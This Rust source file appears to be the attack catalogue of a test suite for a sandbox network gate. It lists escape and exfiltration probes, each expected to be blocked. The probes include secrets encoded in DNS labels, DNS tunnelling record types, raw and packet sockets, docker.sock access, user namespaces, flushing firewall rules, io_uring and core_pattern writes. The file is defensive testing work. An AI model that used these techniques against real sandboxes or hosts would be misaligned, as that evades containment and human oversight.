//! Everything that is not a request: DNS, datagrams, raw sockets, namespaces, sockets of the host.

use crate::attack::{Attack, LOOKED_UP, Question, Section, Seen};
use crate::build::{Draft, attack as draft};
use crate::kernel::{Kernel, Space};

fn attack(class: &'static str, tries: &'static str) -> Draft {
    draft(Section::Channels, class, tries)
}

pub(super) fn list() -> Vec<Attack> {
    let mut list = names();
    list.extend(packets());
    list.extend(sockets());
    list.extend(namespaces());
    list
}

const A: u16 = 1;

fn question(name: String, kind: u16) -> Question {
    Question {
        server: "192.0.2.53",
        name,
        kind,
        over_tcp: false,
    }
}

impl Draft {
    fn question(self, name: &str, kinds: &[u16]) -> Self {
        kinds
            .iter()
            .fold(self, |draft, kind| draft.ask(question(name.to_owned(), *kind)))
    }

    fn answer_twin(self) -> Self {
        let ask = question("answered.attack.outwall.test".to_owned(), A);
        self.beside(
            "the address of a name, which the gate answers itself",
            crate::attack::Attempt {
                from: crate::attack::Side::Sandbox,
                act: crate::attack::Act::Ask(ask),
            },
        )
    }

    fn server_twin(self) -> Self {
        self.beside(
            "a server of the sandbox's own and its client",
            crate::attack::Attempt {
                from: crate::attack::Side::Sandbox,
                act: crate::attack::Act::Kernel(Kernel::OwnServer),
            },
        )
    }
}

/// An answer of ours: no records, or the address of the gate's own range.
fn answered_by_the_gate(seen: &Seen) -> bool {
    seen.answers
        .first()
        .is_some_and(|answer| answer.reason == "0 records")
        || OURS.iter().any(|prefix| seen.text.starts_with(prefix))
}

/// Where synthetic addresses are.
const OURS: [&str; 3] = ["198.18.", "198.19.", "fd5b:6f75:7477:"];

fn names() -> Vec<Attack> {
    let label = |text: &str| format!("{text}.{LOOKED_UP}");
    let servers = ["8.8.8.8", "192.0.2.53", "169.254.169.253"];
    let any_server = servers.iter().fold(
        attack(
            "dns-to-any-resolver",
            "a question to a resolver of the attacker's choice, over UDP and TCP",
        ),
        |draft, server| {
            let ask = |over_tcp| Question {
                server,
                name: label("c2VjcmV0"),
                kind: A,
                over_tcp,
            };
            draft.ask(ask(false)).ask(ask(true))
        },
    );
    vec![
        attack("dns-labels", "a secret in the labels of a name that is looked up")
            .known("CVE-2026-12039")
            .question(&label("c2VjcmV0LWZyb20tdGhlLXNhbmRib3g.part1"), &[A, 28])
            .answer_twin()
            .seen(
                "answered by the gate itself, and asked of nobody",
                answered_by_the_gate,
            ),
        attack(
            "dns-other-types",
            "TXT, NULL, MX, CNAME, SRV, ANY and others that carry bytes back",
        )
        .known("iodine, dnscat2")
        .question(&label("down"), &[16, 10, 15, 5, 33, 255, 65280])
        .answer_twin()
        .seen("without a record", |seen| {
            seen.answers
                .first()
                .is_some_and(|answer| answer.reason == "0 records")
        }),
        attack(
            "dns-https-record",
            "HTTPS and SVCB, whose ECH would hide the name in TLS",
        )
        .known("RFC 9460")
        .question("x.h1.attack.outwall.test", &[64, 65])
        .answer_twin()
        .seen("without a record", |seen| {
            seen.answers
                .first()
                .is_some_and(|answer| answer.reason == "0 records")
        }),
        any_server
            .answer_twin()
            .seen("answered by the gate itself", answered_by_the_gate),
        attack("dns-over-tls", "port 853, where questions are encrypted")
            .known("RFC 7858")
            .tcp("192.0.2.53", 853)
            .nothing(),
        attack("dns-over-https", "a resolver over https at its address")
            .known("RFC 8484")
            .get_at(
                "192.0.2.53",
                "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB",
            )
            .nothing(),
    ]
}

impl Draft {
    /// A connection to an address and port, with bytes that no protocol begins with.
    fn tcp(self, address: &str, port: u16) -> Self {
        let opening = crate::build::direct(address, crate::attack::Port::Number(port));
        self.tried(crate::build::talk(
            opening,
            crate::attack::Inside::Clear,
            vec![vec![0, 12, 0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]],
        ))
        .unanswered()
    }

    /// A GET inside TLS at an address.
    fn get_at(self, address: &str, path: &str) -> Self {
        let opening = crate::build::direct(address, crate::attack::Port::Number(443));
        let inside = crate::attack::Inside::Tls {
            name: None,
            speaks: crate::attack::Speaks::Http1,
        };
        let text =
            format!("GET {path} HTTP/1.1\r\nhost: {address}\r\naccept: application/dns-message\r\n\r\n");
        self.tried(crate::build::talk(opening, inside, vec![text.into_bytes()]))
    }
}

fn packets() -> Vec<Attack> {
    vec![
        attack("udp", "datagrams to any address")
            .known("")
            .kernel(Kernel::Datagram("192.0.2.1:9"))
            .kernel(Kernel::Datagram("[2001:db8::1]:9"))
            .server_twin()
            .kernel_holds(),
        attack("quic", "HTTP/3, which is not read")
            .kernel(Kernel::Datagram("192.0.2.1:443"))
            .kernel(Kernel::Datagram("[2001:db8::1]:443"))
            .server_twin()
            .kernel_holds(),
        attack("ntp-and-syslog", "other services over UDP that carry bytes out")
            .kernel(Kernel::Datagram("192.0.2.1:123"))
            .kernel(Kernel::Datagram("192.0.2.1:514"))
            .server_twin()
            .kernel_holds(),
        attack("udp-to-the-host", "a service of the host's loopback over UDP")
            .kernel(Kernel::DatagramToVictim)
            .server_twin()
            .kernel_holds(),
        attack("icmp-echo", "echo requests that carry bytes")
            .known("CVE-2026-12539")
            .kernel(Kernel::Echo("192.0.2.1"))
            .server_twin()
            .kernel_holds(),
        attack(
            "other-ports",
            "SSH, SMTP, IRC and others over TCP to a host that no list names",
        )
        .tcp("192.0.2.1", 22)
        .tcp("192.0.2.1", 25)
        .tcp("192.0.2.1", 6667)
        .tcp("2001:db8::1", 22)
        .nothing(),
    ]
}

const DGRAM: i32 = 2;
const RAW: i32 = 3;
const STREAM: i32 = 1;
const SEQPACKET: i32 = 5;

fn sockets() -> Vec<Attack> {
    vec![
        attack("raw-socket", "packets of one's own making, v4 and v6")
            .kernel(Kernel::Socket(2, RAW, 1))
            .kernel(Kernel::Socket(2, RAW, 255))
            .kernel(Kernel::Socket(10, RAW, 58))
            .server_twin()
            .kernel_holds(),
        attack("packet-socket", "frames of one's own making")
            .kernel(Kernel::Socket(17, RAW, 0x0300))
            .kernel(Kernel::Socket(17, DGRAM, 0x0300))
            .server_twin()
            .kernel_holds(),
        attack("vsock", "the hypervisor's channel to its host")
            .kernel(Kernel::Socket(40, STREAM, 0))
            .kernel(Kernel::Socket(40, DGRAM, 0))
            .server_twin()
            .kernel_holds(),
        attack(
            "kernel-crypto",
            "AF_ALG, a part of the kernel that no program here needs",
        )
        .kernel(Kernel::Socket(38, SEQPACKET, 0))
        .server_twin()
        .kernel_holds(),
        attack("other-families", "SCTP, TIPC, CAN, Bluetooth, XDP and RDS")
            .kernel(Kernel::Socket(2, STREAM, 132))
            .kernel(Kernel::Socket(30, DGRAM, 0))
            .kernel(Kernel::Socket(29, RAW, 1))
            .kernel(Kernel::Socket(31, SEQPACKET, 0))
            .kernel(Kernel::Socket(44, RAW, 0))
            .kernel(Kernel::Socket(21, SEQPACKET, 0))
            .server_twin()
            .kernel_holds(),
        attack("abstract-socket", "an abstract unix socket of the host")
            .kernel(Kernel::Abstract)
            .server_twin()
            .kernel_holds(),
        attack(
            "sockets-of-the-host",
            "container engines, D-Bus and other sockets in the file system",
        )
        .known("docker.sock")
        .kernel(Kernel::Unix("/var/run/docker.sock"))
        .kernel(Kernel::Unix("/run/containerd/containerd.sock"))
        .kernel(Kernel::Unix("/run/dbus/system_bus_socket"))
        .kernel(Kernel::Unix("/run/systemd/private"))
        .server_twin()
        .kernel_holds(),
    ]
}

fn namespaces() -> Vec<Attack> {
    vec![
        attack("child-user-namespace", "a user namespace in which one is root")
            .kernel(Kernel::Unshare(Space::User))
            .kernel(Kernel::Call("user-namespace-by-clone"))
            .kernel(Kernel::Call("user-namespace-by-clone3"))
            .server_twin()
            .kernel_holds(),
        attack("child-network-namespace", "a network of one's own")
            .kernel(Kernel::Unshare(Space::Network))
            .server_twin()
            .kernel_holds(),
        attack("flush-the-rules", "deleting the rules that capture connections")
            .kernel(Kernel::FlushRules)
            .server_twin()
            .kernel_holds(),
        attack("add-an-address", "giving an interface an address")
            .kernel(Kernel::AddAddress)
            .server_twin()
            .kernel_holds(),
        attack("mount-a-file-system", "a file system of one's own")
            .kernel(Kernel::Mount)
            .server_twin()
            .kernel_holds(),
        attack(
            "enter-the-first-process",
            "the namespaces and the memory of the first process",
        )
        .kernel(Kernel::EnterInitNetwork)
        .kernel(Kernel::InitMemory)
        .kernel(Kernel::Call("trace-the-first-process"))
        .server_twin()
        .kernel_holds(),
        attack(
            "io-uring",
            "requests to the kernel by shared memory, which no filter of system calls sees",
        )
        .known("io_uring rootkits, 2025")
        .kernel(Kernel::Call("io-uring"))
        .server_twin()
        .kernel_holds(),
        attack(
            "keys-in-the-kernel",
            "the keyring that a user's processes share, on the host too",
        )
        .kernel(Kernel::Call("keyring"))
        .server_twin()
        .kernel_holds(),
        attack(
            "kernel-interfaces",
            "programs in the kernel, counters of the whole machine, and faults that are handled by oneself",
        )
        .known("CVE-2021-3490")
        .kernel(Kernel::Call("bpf"))
        .kernel(Kernel::Call("perf"))
        .kernel(Kernel::Call("userfaultfd"))
        .server_twin()
        .kernel_holds(),
        attack("kernel-settings", "settings of the kernel's network")
            .kernel(Kernel::Write("/proc/sys/net/ipv4/ip_forward"))
            .kernel(Kernel::Write("/proc/sys/net/ipv4/conf/all/route_localnet"))
            .kernel(Kernel::Write("/proc/sys/kernel/core_pattern"))
            .server_twin()
            .kernel_holds(),
    ]
}
